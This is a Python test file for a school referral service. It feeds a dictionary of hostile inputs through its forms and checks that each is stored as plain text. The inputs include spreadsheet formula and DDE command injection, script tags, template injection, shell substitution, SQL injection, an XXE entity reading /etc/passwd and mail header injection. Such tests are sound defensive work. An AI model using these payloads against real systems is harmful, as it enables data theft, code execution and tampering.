"""Whatever is typed or sent is text: it is stored, shown and rendered as text. Nothing is executed,
nothing else breaks, and the next sync has nothing to do."""

from __future__ import annotations

import io
import json
from typing import Any

import pytest
from docx import Document
from gspread.utils import rowcol_to_a1

from service.reconcile.sync import Report
from tests.school_fixture import ADMIN, DANA, DOMAIN, ROOT, LiveSchool, questions

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
NORA = f"nora.lind@{DOMAIN}"
RUTH = f"ruth.adeyemi@{DOMAIN}"
MAREN = f"maren.okafor@{DOMAIN}"

HOSTILE = {
    "a formula": '=IMPORTXML("https://example.com/?q="&A1;"//a")',
    "another formula": "+HYPERLINK(\"https://example.com\",\"here\")",
    "a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(2)> & <b>bold</b>",
    "a template": "{{ 7*7 }} {% for c in [].__class__.__mro__ %}{{ c }}{% endfor %} {# gone #}",
    "a template of documents": "{%p if x %}{{r self.__init__ }}{%tr for a in b %}",
    "a format": "%s %(name)s {student} {0.__class__} ${HOME} $(id) `id`",
    "control characters": "be\x07ll \x1b[31mred\x1b[0m nul\x00l form\x0cfeed",
    "right to left": "\u202egnp.exe\u202c \u2066isolated\u2069 \u200fשלום",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈👍🏽 Z̷̛̗a̸͎͐l̶̰̔g̵̭̈́o̶͓͝",
    "zero width": "An\u200ba Sil\u200dva\ufeff\u2060",
    "SQL": "Robert'); DROP TABLE agreed;-- \" OR 1=1",
    "XML": "]]> <!ENTITY x SYSTEM 'file:///etc/passwd'> &x; &#0; <?xml ?>",
    "beyond the first plane": "𝒜𝓃𝒶 \U0010ffff \ufffe",
    "line ends": "one\r\ntwo\rthree\u2028four\u2029five\x85six\tseven",
    "a mail's header": "Subject: x\r\nBcc: everybody@example.com\r\n\r\nHello",
}
LONG = "Fifty thousand. " * 3125
assert len(LONG) == 50_000


def test_what_a_form_brings_is_stored_as_text_and_answered(small: LiveSchool) -> None:
    small.sync()
    small.refer(person=NORA, student_name="Zoë O'Brien", grade="10", concern="Before.")
    for number, text in enumerate(HOSTILE.values()):
        form, person = (("inside", NORA), ("outside", ""))[number % 2]
        answers = {"student_name": text, "concern": text, "strengths": text, "tried": text}
        small.refer(form, person, referrer_name=text, **answers)
    small.refer("outside", student_name=LONG[:200], concern=LONG, tried=LONG)
    small.refer(person=NORA, danger="Yes", student_name=HOSTILE["HTML"], concern=HOSTILE["SQL"])
    small.refer(person=NORA, student_name="Thandi Dlamini", grade="11", concern="After.")
    small.sync()
    rows = small.rows("office", "Referrals")
    assert len(rows) == len(HOSTILE) + 4
    assert {"Before.", "After."} <= {row["Concern"] for row in rows}
